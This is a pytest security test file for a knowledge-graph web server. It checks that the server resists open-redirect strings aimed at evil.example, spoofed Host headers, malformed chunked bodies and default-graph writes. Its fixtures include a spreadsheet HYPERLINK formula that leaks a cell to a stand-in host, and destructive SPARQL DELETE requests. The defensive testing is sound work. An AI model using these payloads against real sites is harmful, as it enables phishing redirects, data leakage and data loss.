"""Bad input that once got a 500 or worse (issue 21), against a real server on 127.0.0.1.

Every request here goes over a real socket, most of them written byte by byte, so that what is
tested is what a browser or an attacker's client sends, not what a test client would build.
"""

from __future__ import annotations

import hashlib
import itertools
import shutil
import socket
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from live import SERVER, Answer, LiveServer, build, start_server

# Run again against a remote store and under granian by make test (-m web).
pytestmark = pytest.mark.web

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "curator-token-for-bad-input"
#: Labels of the `curated` server's data that a spreadsheet would run as formulas.
FORMULA_LABELS = {
    '"BIPM"@en': """'''=HYPERLINK("http://formula.invalid/?leak="&A1,"BIPM")'''@en""",
    '"CIPM"@en': '"+1+1"@en',
    '"CGPM"@en': '"-1+1"@en',
    '"OIML"@en': '"@SUM(1+1)"@en',
}
#: The public origin the `curated` server is configured with (BASE_URL).
PUBLIC_BASE = "https://kg.example.org"


@pytest.fixture(scope="module")
def curated(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A server with curators' updates on, over a copy of the curated files."""
    base = tmp_path_factory.mktemp("bad-input")
    data = base / "graph_data"
    shutil.copytree(ROOT / "graph_data", data, ignore=shutil.ignore_patterns("*.md"))
    organisations = data / "organisations.ttl"
    text = organisations.read_text(encoding="utf-8")
    for old, new in FORMULA_LABELS.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    organisations.write_text(text, encoding="utf-8")
    build(base / "store", data)
    live = start_server(
        base / "store",
        {
            "BIPMKG_UPDATE_TOKEN": TOKEN,
            "BIPMKG_DATA_DIR": str(data),
            "BIPMKG_BASE_URL": PUBLIC_BASE,
        },
        base / "server.log",
    )
    yield live
    live.stop()


def fingerprint(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


# -- Raw HTTP over a socket --------------------------------------------------------------------


def exchange(
    server: LiveServer, head: bytes, body: bytes = b"", *, timeout: float = 30, done: bool = False
) -> Answer:
    """Send one request as given (`head` without its blank line) and read the answer to the end;
    `done`: then say that nothing more will be sent (shut the socket for writing)."""
    host, port = server.url.removeprefix("http://").split(":")
    received = b""
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        sock.sendall(head + b"\r\nConnection: close\r\n\r\n" + body)
        if done:
            sock.shutdown(socket.SHUT_WR)
        try:
            while chunk := sock.recv(65536):
                received += chunk
        except ConnectionResetError:
            pass
    return parse(received)


def parse(raw: bytes) -> Answer:
    """The answer in `raw`; status 0 if the server closed the connection without one."""
    if not raw:
        return Answer(0, {}, b"")
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers: dict[str, str] = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        key = name.strip().lower()
        headers[key] = f"{headers[key]}, {value.strip()}" if key in headers else value.strip()
    return Answer(status, headers, body)


def get(server: LiveServer, target: bytes, headers: dict[str, str] | None = None) -> Answer:
    host = server.url.removeprefix("http://")
    lines = [b"GET " + target + b" HTTP/1.1", f"Host: {host}".encode()]
    lines += [f"{k}: {v}".encode() for k, v in (headers or {}).items() if k != "Host"]
    if headers and "Host" in headers:
        lines[1] = f"Host: {headers['Host']}".encode()
    return exchange(server, b"\r\n".join(lines))


# -- 1. The language switch goes back to a path on this site, whatever `next` says ---------------

#: How a target may start: a path, what browsers read as another host, schemes.
STARTS = ["/", "//", "\\", "/\\", "\\/", "", "http:", "https://", "javascript:", "/./", "/../"]
#: What may come next: every C0 control, space, DEL, slashes and backslashes, and the Unicode
#: spaces, separators and look-alike solidi that some parser might fold into ASCII.
ODD = [chr(c) for c in range(0x21)] + ["\x7f", "/", "\\", "\u00a0", "\u2028", "\u3000"]
ODD += ["\ufeff", "\u2215", "\uff0f", "\uff3c", "\u200b"]
ENDS = ["/evil.example", "evil.example", "\\evil.example", "//evil.example", "@evil.example/"]
TARGETS = sorted({s + o + e for s, o, e in itertools.product(STARTS, ODD, ENDS)})


def browser_reads(location: str) -> str:
    """What a WHATWG URL parser does to a Location first: strip C0 and space at both ends, drop
    tabs and newlines anywhere, read backslashes as slashes (http is a special scheme)."""
    trimmed = location.strip("".join(chr(c) for c in range(0x21)))
    dropped = "".join(ch for ch in trimmed if ch not in "\t\n\r")
    return dropped.replace("\\", "/")


def assert_same_site(server: LiveServer, answer: Answer, sent: str) -> None:
    assert answer.status == 303, (sent, answer.status, answer.body[:300])
    location = answer.headers["location"]
    # Only printable ASCII: nothing a browser could drop, fold or reinterpret.
    assert all(0x21 <= ord(ch) < 0x7F for ch in location), (sent, location)
    read = browser_reads(location)
    assert read.startswith("/") and not read.startswith("//"), (sent, location)
    joined = urllib.parse.urlsplit(urllib.parse.urljoin(f"{server.url}/lang/fr", read))
    assert f"{joined.scheme}://{joined.netloc}" == server.url, (sent, location)


def test_the_generated_targets_are_many() -> None:
    assert len(TARGETS) > 1500


def test_percent_encoded_next_always_stays_on_the_site(server: LiveServer) -> None:
    for target in TARGETS:
        encoded = urllib.parse.quote(target, safe="")
        answer = get(server, f"/lang/fr?next={encoded}".encode())
        assert_same_site(server, answer, target)


def test_raw_next_is_refused_by_the_server_or_stays_on_the_site(server: LiveServer) -> None:
    # Raw bytes in the request line: the HTTP server may refuse the line (400), never a 500,
    # and whatever reaches the app leaves with a same-site Location.
    for target in TARGETS:
        raw = target.encode("utf-8")
        answer = get(server, b"/lang/fr?next=" + raw)
        if answer.status == 400:
            continue
        assert_same_site(server, answer, target)


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.text(alphabet=st.sampled_from([*ODD, "a", ".", ":", "@", "?", "#", "%", "e"]), max_size=12)
)
def test_any_next_stays_on_the_site(server: LiveServer, tail: str) -> None:
    for start in ("/", "//", ""):
        target = start + tail
        answer = get(server, b"/lang/fr?next=" + urllib.parse.quote(target, safe="").encode())
        assert_same_site(server, answer, target)


def test_a_path_with_its_query_string_is_kept(server: LiveServer) -> None:
    target = "/search?q=bipm&lang=fr"
    answer = get(server, b"/lang/fr?next=" + urllib.parse.quote(target, safe="").encode())
    assert answer.status == 303 and answer.headers["location"] == target


# -- 2. A malformed chunked body is a clear 400, and writes nothing --------------------------------

EVENTS = "https://w3id.org/bipmkg/graph/events"


def chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


#: Route, content type, and a body that would be a complete, valid request on its own: a server
#: that ends the body at the fault instead of refusing it would act on it.
ROUTES = {
    "sparql-query": ("/sparql", "application/sparql-query", b"ASK { ?s ?p ?o }"),
    "sparql-form": ("/sparql", "application/x-www-form-urlencoded", b"query=ASK%7B%7D"),
    "update-body": (
        "/update",
        "application/sparql-update",
        f"DELETE WHERE {{ GRAPH <{EVENTS}> {{ ?s ?p ?o }} }}".encode(),
    ),
    "update-form": (
        "/update",
        "application/x-www-form-urlencoded",
        b"update="
        + urllib.parse.quote(f"DELETE WHERE {{ GRAPH <{EVENTS}> {{ ?s ?p ?o }} }}").encode(),
    ),
    "upload-put": ("/update/data?graph=events", "text/turtle", b"<urn:a> <urn:b> <urn:c> .\n"),
}
#: What follows the first, valid chunk.
MALFORMED = {
    "chunk size not hexadecimal": b"zz\r\nabc\r\n0\r\n\r\n",
    "chunk longer than its size": b"3\r\nabcdef\r\n0\r\n\r\n",
    "chunk size with a sign": b"-3\r\nabc\r\n0\r\n\r\n",
    "no final chunk": b"",
    "cut inside a chunk": b"10\r\nabc",
    "chunk size past any body": b"ffffffffffffffffffff\r\nabc\r\n0\r\n\r\n",
}
#: Malformations where the body is cut off by the client's end of sending.
CUT_OFF = {"no final chunk", "cut inside a chunk"}


@pytest.mark.parametrize("malformation", sorted(MALFORMED))
@pytest.mark.parametrize("route", sorted(ROUTES))
def test_a_malformed_chunked_body_is_a_clear_400_and_writes_nothing(
    curated: LiveServer, route: str, malformation: str
) -> None:
    path, content_type, valid = ROUTES[route]
    data_dir = Path(curated.settings["BIPMKG_DATA_DIR"])
    before = fingerprint(data_dir)
    host = curated.url.removeprefix("http://")
    head = (
        f"{'PUT' if route == 'upload-put' else 'POST'} {path} HTTP/1.1\r\nHost: {host}\r\n"
        f"Content-Type: {content_type}\r\nAuthorization: Bearer {TOKEN}\r\n"
        "Transfer-Encoding: chunked"
    ).encode()
    answer = exchange(curated, head, chunk(valid) + MALFORMED[malformation], done=True)
    writes = path != "/sparql"
    if answer.status == 0:
        # The client's end came mid-body: an asynchronous front may close without answering.
        assert malformation in CUT_OFF
    elif answer.status == 411:
        # A server that ends a body silently at a bad chunk (granian's WSGI interface): the app
        # cannot tell it was cut short, so a curator's change must come with a Content-Length.
        assert writes and b"Content-Length" in answer.body, answer.body
    elif SERVER == "granian" and not writes and answer.status == 200:
        # The same server, on a read-only query: the part before the bad chunk was answered.
        pass
    else:
        assert answer.status == 400, answer.body
        said = answer.body.lower()
        assert b"malformed" in said or b"chunk" in said, answer.body
        assert answer.headers.get("connection") == "close"
    assert fingerprint(data_dir) == before
    assert b"Traceback" not in curated.log.read_bytes()


def test_a_well_formed_chunked_query_is_answered(curated: LiveServer) -> None:
    host = curated.url.removeprefix("http://")
    head = (
        f"POST /sparql HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/sparql-query\r\n"
        "Accept: application/sparql-results+json\r\nTransfer-Encoding: chunked"
    ).encode()
    answer = exchange(curated, head, chunk(b"ASK ") + chunk(b"{ ?s ?p ?o }") + b"0\r\n\r\n")
    assert answer.status == 200 and b'"boolean": true' in answer.body.replace(b'":true', b'": true')


def test_a_curators_change_with_a_content_length_still_applies(curated: LiveServer) -> None:
    host = curated.url.removeprefix("http://")
    text = b"INSERT DATA { GRAPH <%s> { <urn:x> <urn:y> <urn:z> } }" % EVENTS.encode()
    head = (
        f"POST /update HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/sparql-update\r\n"
        f"Authorization: Bearer {TOKEN}\r\nContent-Length: {len(text)}"
    ).encode()
    # A curator's change rebuilds the store: 10 s here on the embedded store, 26 s on the remote
    # one (it uploads the changed graph, the metrics and the union graph), past 30 s on CI.
    answer = exchange(curated, head, text, timeout=180)
    assert answer.status == 200, answer.body


# -- 3. Links and redirects name the configured origin, never the request's Host -----------------

#: Routes that name the server's own address, or redirect: path and Accept.
NAMING = [
    ("/sparql", "text/turtle"),
    ("/sparql", "text/html"),
    ("/.well-known/void", "text/turtle"),
    ("/.well-known/void", "application/ld+json"),
    ("/", "text/html"),
    ("/query", "text/html"),
    ("/download", "text/html"),
    ("/download/", "text/html"),
    ("/id/organisation", "text/html"),
    ("/id/organisation/bipm", "text/html"),
    ("/id/organisation/bipm", "text/turtle"),
    ("/favicon.ico", "*/*"),
    ("/lang/fr?next=/query", "text/html"),
    ("/search?q=bipm", "text/html"),
    ("/api/queries", "application/json"),
    ("/openapi.json", "application/json"),
]
#: Each with the name that must never appear.
HOSTILE_HOSTS = {
    "evil.example": "evil.example",
    "evil.example:8080": "evil.example",
    "127.0.0.1.attacker.test": "attacker.test",
}


@pytest.mark.parametrize("hostile_host", sorted(HOSTILE_HOSTS))
@pytest.mark.parametrize(("path", "accept"), NAMING)
def test_a_hostile_host_header_is_never_named(
    server: LiveServer, curated: LiveServer, path: str, accept: str, hostile_host: str
) -> None:
    for live, base in ((server, server.url), (curated, PUBLIC_BASE)):
        answer = get(live, path.encode(), {"Host": hostile_host, "Accept": accept})
        assert answer.status < 500, (path, answer.status, answer.body[:300])
        named = HOSTILE_HOSTS[hostile_host]
        headers = "\n".join(f"{k}: {v}" for k, v in answer.headers.items())
        assert named not in headers, (path, headers)
        assert named.encode() not in answer.body, (path, answer.body[:300])
        location = answer.headers.get("location")
        if location is not None:
            assert location.startswith("/") or location.startswith(base + "/"), location


def test_the_descriptions_name_the_configured_origin(
    server: LiveServer, curated: LiveServer
) -> None:
    for live, base in ((server, server.url), (curated, PUBLIC_BASE)):
        described = get(live, b"/sparql", {"Host": "evil.example", "Accept": "text/turtle"})
        assert f"<{base}/sparql>".encode() in described.body, described.body[:500]
        void = get(live, b"/.well-known/void", {"Host": "evil.example", "Accept": "text/turtle"})
        assert f"<{base}/sparql>".encode() in void.body, void.body[:500]


def test_base_url_is_an_origin_only() -> None:
    from webapp.origin import parse_base_url

    assert parse_base_url("https://kg.example.org").netloc == "kg.example.org"
    assert parse_base_url("http://127.0.0.1:5000/").netloc == "127.0.0.1:5000"
    assert parse_base_url("http://[::1]:8000").netloc == "[::1]:8000"
    for wrong in (
        "kg.example.org",
        "ftp://kg.example.org",
        "https://kg.example.org/kg",
        "http://a:b@kg",
    ):
        with pytest.raises(ValueError, match="BASE_URL"):
            parse_base_url(wrong)


def test_bipmkg_serve_names_its_own_address_by_default() -> None:
    from bipmkg.cli.main import base_url

    assert base_url("127.0.0.1", 5000) == "http://127.0.0.1:5000"
    assert base_url("::1", 8080) == "http://[::1]:8080"


# -- 4. The network's CSV files hold no cell a spreadsheet would run -----------------------------


def csv_rows(answer: Answer) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(answer.body.decode("utf-8"))))


@pytest.mark.parametrize("name", ["network-nodes.csv", "network-edges.csv"])
def test_network_csv_cells_never_start_a_formula(curated: LiveServer, name: str) -> None:
    from bipmkg.rdf.spreadsheet import FORMULA_STARTS

    answer = get(curated, f"/download/{name}".encode())
    assert answer.status == 200, answer.body[:300]
    rows = csv_rows(answer)
    assert len(rows) > 10
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), (row, value)


def test_a_formula_label_is_written_as_text(curated: LiveServer) -> None:
    rows = csv_rows(get(curated, b"/download/network-nodes.csv"))
    labels = {row[0].rsplit("/", 1)[-1]: row[1] for row in rows[1:]}
    assert labels["bipm"] == """'=HYPERLINK("http://formula.invalid/?leak="&A1,"BIPM")"""
    assert labels["cipm"] == "'+1+1"
    assert labels["cgpm"] == "'-1+1"
    assert labels["oiml"] == "'@SUM(1+1)"


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()))
def test_a_cell_is_never_a_formula_and_keeps_the_value(value: object) -> None:
    from bipmkg.rdf.spreadsheet import FORMULA_STARTS, cell

    written = cell(value)
    if isinstance(value, int | float):
        assert written == str(value)
        return
    expected = "" if value is None else str(value)
    assert written in (expected, "'" + expected)
    assert not written.startswith(FORMULA_STARTS)
    assert written == expected or expected.startswith(FORMULA_STARTS)


# -- 5. Unknown filter values and the default graph: a 400 that says what is accepted -----------

UNKNOWN_VALUES = [
    ("/timeline?kind=bogus", "kind"),
    ("/timeline?kind=Event", "kind"),
    ("/timeline?knd=event", "knd"),
    ("/graph?colur=kind", "colur"),
    ("/api/network?asof=2019-01-01", "asof"),
    ("/api/network?as_of=yesterday", "yesterday"),
    ("/api/analysis?as_of=2019-01-01&x=1", "'x'"),
    ("/api/ego?node=bipm&radious=2", "radious"),
    ("/api/path?from=bipm&to=oiml&limt=2", "limt"),
    ("/download/network-nodes.csv?asof=2019-01-01", "asof"),
]


@pytest.mark.parametrize(("path", "named"), UNKNOWN_VALUES)
def test_unknown_filters_and_values_are_400_naming_them(
    server: LiveServer, path: str, named: str
) -> None:
    answer = get(server, path.encode())
    assert answer.status == 400, (path, answer.status, answer.body[:200])
    assert named.encode() in answer.body, answer.body


def test_an_unknown_timeline_kind_names_the_accepted_kinds(server: LiveServer) -> None:
    from webapp.graph import KINDS

    answer = get(server, b"/timeline?kind=bogus")
    assert answer.status == 400
    for kind in KINDS:
        assert kind.encode() in answer.body


def test_known_timeline_filters_still_filter(server: LiveServer) -> None:
    every = get(server, b"/timeline")
    events = get(server, b"/timeline?kind=event&lang=fr")
    assert every.status == events.status == 200
    assert 0 < events.body.count(b"<tr data-kind=") < every.body.count(b"<tr data-kind=")
    assert events.body.count(b"<tr data-kind=") == events.body.count(b'<tr data-kind="event"')


DEFAULT_GRAPH_WRITES = {
    "insert-data": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "delete-data": "DELETE DATA { <urn:a> <urn:b> <urn:c> }",
    "insert-where": "INSERT { <urn:a> <urn:b> ?o } WHERE { ?s ?p ?o } ",
    "with-nothing": "DELETE WHERE { <urn:a> <urn:b> ?o }",
    "copy-to-default": f"COPY <{EVENTS}> TO DEFAULT",
    "delete-insert": (
        "DELETE { ?s <urn:b> ?o } INSERT { ?s <urn:c> ?o } WHERE { GRAPH ?g { ?s ?p ?o } }"
    ),
}


@pytest.mark.parametrize("name", sorted(DEFAULT_GRAPH_WRITES))
def test_writing_to_the_default_graph_is_a_400_naming_the_graphs(
    curated: LiveServer, name: str
) -> None:
    text = DEFAULT_GRAPH_WRITES[name].encode()
    host = curated.url.removeprefix("http://")
    head = (
        f"POST /update HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/sparql-update\r\n"
        f"Authorization: Bearer {TOKEN}\r\nContent-Length: {len(text)}"
    ).encode()
    answer = exchange(curated, head, text)
    assert answer.status == 400, answer.body
    assert b"unpack" not in answer.body
    assert b"GRAPH" in answer.body and EVENTS.encode() in answer.body, answer.body
